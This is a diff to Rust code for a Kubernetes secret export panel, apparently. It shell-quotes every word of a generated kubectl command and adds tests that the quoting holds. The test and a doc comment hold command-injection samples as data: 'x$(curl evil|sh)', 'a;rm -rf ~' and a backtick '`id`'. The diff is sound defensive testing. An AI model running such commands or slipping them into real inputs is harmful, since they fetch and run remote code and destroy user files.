@@ -32,32 +32,81 @@ pub fn ExportPanel(
     }
 }
 
-/// The kubectl command that creates this secret, with placeholders for values.
+/// One shell word, quoted for a POSIX shell whenever it needs it, so that
+/// nothing in a name, key, label or type (`x$(curl evil|sh)`) and no
+/// placeholder (`<password>` would be a redirection) is read as shell syntax.
+pub fn shell_word(word: &str) -> String {
+    shlex::try_quote(word)
+        .map(|q| q.into_owned())
+        // Only a NUL byte cannot be quoted; Kubernetes names never hold one.
+        .unwrap_or_else(|_| "'<unprintable>'".into())
+}
+
+/// The kubectl command that creates this secret, with placeholders for
+/// values; every word shell-quoted.
 pub fn kubectl_command(d: &SecretDetail) -> String {
-    let target = format!("{} -n {}", d.name, d.namespace);
+    let create = |kind: &str, rest: Vec<String>| {
+        let mut words = vec![
+            "kubectl".to_string(),
+            "create".into(),
+            "secret".into(),
+            kind.into(),
+            d.name.clone(),
+            "-n".into(),
+            d.namespace.clone(),
+        ];
+        words.extend(rest);
+        words
+            .iter()
+            .map(|w| shell_word(w))
+            .collect::<Vec<_>>()
+            .join(" ")
+    };
     match d.type_.as_str() {
-        "kubernetes.io/dockerconfigjson" => format!(
-            "kubectl create secret docker-registry {target} --docker-server=<server> --docker-username=<username> --docker-password=<password>"
+        "kubernetes.io/dockerconfigjson" => create(
+            "docker-registry",
+            vec![
+                "--docker-server=<server>".into(),
+                "--docker-username=<username>".into(),
+                "--docker-password=<password>".into(),
+            ],
         ),
-        "kubernetes.io/tls" => {
-            format!("kubectl create secret tls {target} --cert=<tls.crt file> --key=<tls.key file>")
-        }
+        "kubernetes.io/tls" => create(
+            "tls",
+            vec![
+                "--cert=<tls.crt file>".into(),
+                "--key=<tls.key file>".into(),
+            ],
+        ),
         _ => {
-            let mut parts = vec![format!("kubectl create secret generic {target}")];
+            let mut rest = Vec::new();
             if d.type_ != "Opaque" {
-                parts.push(format!("--type={}", d.type_));
+                rest.push(format!("--type={}", d.type_));
             }
-            parts.extend(
+            rest.extend(
                 d.keys
                     .iter()
                     .map(|k| format!("--from-literal={}=<{}>", k.name, k.name)),
             );
-            parts.extend(
-                d.labels
-                    .iter()
-                    .map(|(k, v)| format!("&& kubectl label secret {target} {k}={v}")),
-            );
-            parts.join(" ")
+            let mut command = create("generic", rest);
+            for (k, v) in &d.labels {
+                let label = [
+                    "kubectl",
+                    "label",
+                    "secret",
+                    &d.name,
+                    "-n",
+                    &d.namespace,
+                    &format!("{k}={v}"),
+                ]
+                .iter()
+                .map(|w| shell_word(w))
+                .collect::<Vec<_>>()
+                .join(" ");
+                command.push_str(" && ");
+                command.push_str(&label);
+            }
+            command
         }
     }
 }
@@ -124,7 +173,36 @@ mod tests {
     #[test]
     fn the_kubectl_command_has_placeholders_not_values() {
         let c = kubectl_command(&detail());
-        assert!(c.starts_with("kubectl create secret generic db -n team-a --from-literal=password=<password> --from-literal=user=<user>"), "{c}");
+        assert!(c.starts_with("kubectl create secret generic db -n team-a '--from-literal=password=<password>' '--from-literal=user=<user>'"), "{c}");
+        assert!(
+            c.ends_with(" && kubectl label secret db -n team-a 'app=web'"),
+            "{c}"
+        );
+    }
+
+    #[test]
+    fn every_part_of_the_kubectl_command_is_inert_in_a_shell() {
+        let mut d = detail();
+        d.type_ = "x$(curl evil|sh)".into();
+        d.keys[0].name = "a;rm -rf ~".into();
+        d.labels = [("app".to_string(), "`id`".to_string())].into();
+        let c = kubectl_command(&d);
+        // Split as a POSIX shell would: each dangerous part stays one word.
+        let words = shlex::split(&c).expect("valid shell");
+        assert!(
+            words.contains(&"--type=x$(curl evil|sh)".to_string()),
+            "{c}"
+        );
+        assert!(
+            words.contains(&"--from-literal=a;rm -rf ~=<a;rm -rf ~>".to_string()),
+            "{c}"
+        );
+        assert!(words.contains(&"app=`id`".to_string()), "{c}");
+        assert!(
+            words.contains(&"--from-literal=user=<user>".to_string()),
+            "{c}"
+        );
+        assert!(!c.contains(" $(") && !c.contains(" `"), "{c}");
     }
 
     #[test]
